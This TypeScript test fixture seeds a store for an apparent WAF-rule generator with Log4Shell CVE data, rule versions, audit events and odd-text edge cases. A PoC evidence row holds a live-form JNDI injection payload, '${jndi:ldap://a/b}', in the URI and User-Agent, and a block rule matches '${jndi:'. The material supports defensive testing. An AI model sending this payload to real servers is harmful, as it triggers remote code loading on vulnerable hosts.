// A small store with every kind of row, including text PostgreSQL cannot hold as is (NUL, lone
// surrogates), rule versions, and audit events that share a timestamp.
import type { Store } from '../../../src/store/index.js';

const RULE_V1 = {
  Name: 'wafgen-CVE-2021-44228',
  Priority: 0,
  Action: { Block: {} },
  VisibilityConfig: { SampledRequestsEnabled: true, CloudWatchMetricsEnabled: true, MetricName: 'log4shell' },
  Statement: {
    ByteMatchStatement: {
      FieldToMatch: { AllQueryArguments: {} },
      PositionalConstraint: 'CONTAINS',
      SearchString: '${jndi:',
      TextTransformations: [{ Priority: 0, Type: 'URL_DECODE' }],
    },
  },
};

export async function seedStore(store: Store): Promise<void> {
  await store.vulns.upsertMany([
    {
      id: 'CVE-2021-44228',
      title: 'Log4Shell',
      description: 'JNDI lookup in Apache Log4j',
      cwes: ['CWE-502'],
      cvss: { score: 10, version: '3.1' },
      severity: 'critical',
      vendor: 'apache',
      product: 'log4j',
      references: ['https://logging.apache.org/log4j/2.x/security.html'],
      kev: true,
      kevDateAdded: '2021-12-10',
      published: '2021-12-10T10:15:09.143',
      modified: '2023-04-03T20:15:08.333',
      source: 'nvd',
      fetchedAt: '2024-01-02T03:04:05.678Z',
      tags: ['rce'],
      exploit: {
        attackClass: 'jndi-injection',
        endpoints: ['/'],
        methods: ['GET'],
        parameters: [],
        headers: ['User-Agent'],
        payloadTokens: ['${jndi:'],
      },
    },
    {
      id: 'CVE-2023-0001',
      description: 'odd text: NUL \u0000 and a lone surrogate \ud800 end',
      source: 'jsonl',
      fetchedAt: '2024-02-02T00:00:00.000Z',
    },
  ]);
  await store.evidence.add({
    cveId: 'CVE-2021-44228',
    kind: 'request',
    source: 'https://example.test/poc',
    title: 'PoC request',
    request: {
      id: 'poc-1',
      method: 'GET',
      uri: '/?x=${jndi:ldap://a/b}',
      headers: [['User-Agent', '${jndi:ldap://a/b}']],
      body: 'a\u0000b',
    },
    fetchedAt: '2024-01-03T00:00:00.000Z',
    contentHash: 'a'.repeat(64),
  });
  await store.evidence.add({
    cveId: 'CVE-2021-44228',
    kind: 'article',
    source: 'https://example.test/article',
    text: 'An article with a NUL \u0000 inside',
    fetchedAt: '2024-01-04T00:00:00.000Z',
    contentHash: 'b'.repeat(64),
  });
  await store.rules.saveVersion('CVE-2021-44228', {
    rule: RULE_V1,
    inputsHash: 'hash-1',
    engine: 'builtin',
    report: { valid: true, attempts: 1 },
  });
  await store.rules.saveVersion('CVE-2021-44228', {
    rule: { ...RULE_V1, Action: { Count: {} } },
    inputsHash: 'hash-2',
    engine: 'llm',
    provider: 'openai',
    model: 'gpt-test',
    report: { valid: true, attempts: 2, tokens: { input: 1200, output: 300 } },
  });
  await store.rules.saveVersion('CVE-2023-0001', {
    rule: { ...RULE_V1, Name: 'wafgen-CVE-2023-0001' },
    inputsHash: 'hash-3',
    engine: 'builtin',
    report: {},
  });
  const at = new Date();
  await store.audit.record({
    type: 'generation',
    at,
    requestId: 'req-1',
    cveId: 'CVE-2021-44228',
    principal: 'cli',
    data: { generated: true, version: 1 },
  });
  await store.audit.record({
    type: 'generation',
    at,
    requestId: 'req-2',
    cveId: 'CVE-2021-44228',
    principal: 'cli',
    data: { generated: true, version: 2 },
  });
  await store.audit.record({ type: 'deployment', data: { dryRun: true } });
}
